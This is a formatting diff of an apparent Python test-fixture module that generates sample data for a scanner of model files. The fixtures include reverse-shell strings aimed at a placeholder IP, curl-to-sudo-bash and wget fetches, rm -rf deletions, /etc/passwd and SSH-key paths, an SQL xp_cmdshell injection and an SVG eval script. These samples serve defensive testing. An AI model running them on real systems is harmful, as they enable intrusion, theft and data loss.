@@ -29,7 +29,8 @@ _README = """# A model
     rm -rf /tmp/acme && chmod +x run.sh && ./run.sh
 
 Never write `exec(base64.b64decode(blob))`; a reverse shell such as `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` or
-`nc -e /bin/sh 203.0.113.7 4444` in a data set is what this model finds. See https://acme.example/docs and ~/.ssh/config.
+`nc -e /bin/sh 203.0.113.7 4444` in a data set is what this model finds.
+See https://acme.example/docs and ~/.ssh/config.
 """
 _MODULE = '''"""Trains."""
 import os
@@ -59,12 +60,45 @@ _SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>eval(document.title)</s
 _HTML = (
     "<html><script src='https://cdn.acme.example/a.js'></script><body onload=\"eval('x')\">10.0.0.17:8080</body></html>"
 )
-_TOKENS = ["import", "\u0120os", "os.system(", "eval(", "exec(", "subprocess.Popen(", "__import__", "http://", "https://www.",
-           "#!/bin/bash", "rm -rf", "curl -s", "/etc/passwd", "~/.ssh/", "base64.b64decode(", "/bin/sh -c", "| sh"]  # fmt: skip
-_COMMANDS = ["find . -name '*.py' | xargs rm -rf", "ssh user@10.11.12.13 'sudo reboot'", "crontab -l", "wget -qO- https://acme.example/x.tar.gz | tar xz",
-             "curl -s https://acme.example/setup.sh | sudo bash", "cat /etc/passwd | cut -d: -f1", "nc -lvp 4444", "bash -c 'echo hi'"]  # fmt: skip
-_PLACES = {"resume": "/home/user/.cache/torch/hub/ckpt.pt", "rc": "~/.bashrc", "key": "~/.ssh/id_rsa", "cron": "/etc/cron.d/backup",
-           "init": "tcp://10.1.2.3:23456", "master_addr": "192.168.10.20", "store": "s3://acme/models", "v6": "[2001:db8::1]:29500"}  # fmt: skip
+_TOKENS = [
+    "import",
+    "\u0120os",
+    "os.system(",
+    "eval(",
+    "exec(",
+    "subprocess.Popen(",
+    "__import__",
+    "http://",
+    "https://www.",
+    "#!/bin/bash",
+    "rm -rf",
+    "curl -s",
+    "/etc/passwd",
+    "~/.ssh/",
+    "base64.b64decode(",
+    "/bin/sh -c",
+    "| sh",
+]
+_COMMANDS = [
+    "find . -name '*.py' | xargs rm -rf",
+    "ssh user@10.11.12.13 'sudo reboot'",
+    "crontab -l",
+    "wget -qO- https://acme.example/x.tar.gz | tar xz",
+    "curl -s https://acme.example/setup.sh | sudo bash",
+    "cat /etc/passwd | cut -d: -f1",
+    "nc -lvp 4444",
+    "bash -c 'echo hi'",
+]
+_PLACES = {
+    "resume": "/home/user/.cache/torch/hub/ckpt.pt",
+    "rc": "~/.bashrc",
+    "key": "~/.ssh/id_rsa",
+    "cron": "/etc/cron.d/backup",
+    "init": "tcp://10.1.2.3:23456",
+    "master_addr": "192.168.10.20",
+    "store": "s3://acme/models",
+    "v6": "[2001:db8::1]:29500",
+}
 _NUMBERS = np.random.default_rng(7)
 
 
@@ -80,34 +114,56 @@ def _generator() -> dict[str, Any]:
 
 
 _VALUES: dict[str, Callable[[], Any]] = {
-    "vocabulary": lambda: {token: at for at, token in enumerate([*_TOKENS, *(f"{a}{b}" for a in _TOKENS for b in _TOKENS)])},
+    "vocabulary": lambda: {
+        token: at for at, token in enumerate([*_TOKENS, *(f"{a}{b}" for a in _TOKENS for b in _TOKENS)])
+    },
     "merges": lambda: [f"{left} {right}" for left in _TOKENS for right in _TOKENS],
     "readme": lambda: {"model_card": _README, "license": "See https://www.apache.org/licenses/LICENSE-2.0.\n" * 40},
     "long_readme": lambda: _README * 30,
     "sources": lambda: [_MODULE, _MODULE * 20, "print('hello')\n"],
-    "source_snapshot": lambda: {"train.py": zlib.compress((_MODULE + "# a line of the trainer's own\n" * 100).encode())},
+    "source_snapshot": lambda: {
+        "train.py": zlib.compress((_MODULE + "# a line of the trainer's own\n" * 100).encode())
+    },
     "log_compressed": lambda: gzip.compress(b"2024-01-02 03:04:05 loss 0.5 http://10.1.2.3:6006/\n" * 60, mtime=0),
     "traceback": lambda: {"error": _TRACEBACK, "warnings": [_TRACEBACK] * 3},
     "notebook": _notebook,
     "pages": lambda: [_HTML, _SVG.decode(), "SELECT * FROM users WHERE name = 'x'; EXEC xp_cmdshell('dir');"],
     "commands": lambda: {"prompts": [f"run {line}" for line in _COMMANDS], "commands": _COMMANDS},
-    "attack_strings": lambda: {"labels": [1, 1], "texts": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "nc -e /bin/sh 203.0.113.7 4444"]},
-    "pictures": lambda: [f"data:image/png;base64,{base64.b64encode(_PNG).decode()}", _PNG, base64.b64encode(_SVG).decode()],
-    "tokens_of_the_web": lambda: {"jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNTE2MjM5MDIyfQ.c2lnbmF0dXJl", "etag": "d41d8cd98f00b204e9800998ecf8427e"},
-    "arguments": lambda: {**_PLACES, "argv": ["train.py", "--exec", "bash -c 'python train.py'"], "versions": ["1.13.1.4", "2.0.0.1"]},
+    "attack_strings": lambda: {
+        "labels": [1, 1],
+        "texts": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "nc -e /bin/sh 203.0.113.7 4444"],
+    },
+    "pictures": lambda: [
+        f"data:image/png;base64,{base64.b64encode(_PNG).decode()}",
+        _PNG,
+        base64.b64encode(_SVG).decode(),
+    ],
+    "tokens_of_the_web": lambda: {
+        "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNTE2MjM5MDIyfQ.c2lnbmF0dXJl",
+        "etag": "d41d8cd98f00b204e9800998ecf8427e",
+    },
+    "arguments": lambda: {
+        **_PLACES,
+        "argv": ["train.py", "--exec", "bash -c 'python train.py'"],
+        "versions": ["1.13.1.4", "2.0.0.1"],
+    },
     "digests": lambda: {f"layer{at}": bytes(range(at, at + 32)).hex() for at in range(50)},
-    "random_bytes": lambda: [_NUMBERS_FOR(at).bytes(3000) for at in range(40)],
-    "random_base64": lambda: [base64.b64encode(_NUMBERS_FOR(at).bytes(3000)).decode() for at in range(40)],
+    "random_bytes": lambda: [_numbers(at).bytes(3000) for at in range(40)],
+    "random_base64": lambda: [base64.b64encode(_numbers(at).bytes(3000)).decode() for at in range(40)],
     "generators": _generator,
-    "quantised": lambda: [_NUMBERS_FOR(at).integers(0, 256, 2000).astype("u1").tobytes() for at in range(20)],
+    "quantised": lambda: [_numbers(at).integers(0, 256, 2000).astype("u1").tobytes() for at in range(20)],
     "masks": lambda: [bytes([value] * 400 + [0] * 400 + [115] * 20) for value in (99, 227, 0x7F, 0x80)],
     "nested": lambda: [pickle.dumps({"step": 3, "w": [0.5, 1.5]}, 4), pickle.dumps(np.zeros(3), 4)],
     "json": lambda: json.dumps({"auto_map": {}, "config": _PLACES, "text": _README}),
-    "sentences": lambda: ["(in the\nbeginning was\nthe word", "call me\nIshmael\n. Some years ago", "import duties rose; the system (tax) changed."],
-}  # fmt: skip
+    "sentences": lambda: [
+        "(in the\nbeginning was\nthe word",
+        "call me\nIshmael\n. Some years ago",
+        "import duties rose; the system (tax) changed.",
+    ],
+}
 
 
-def _NUMBERS_FOR(seed: int) -> np.random.Generator:  # noqa: N802
+def _numbers(seed: int) -> np.random.Generator:
     return np.random.default_rng(seed)
 
 
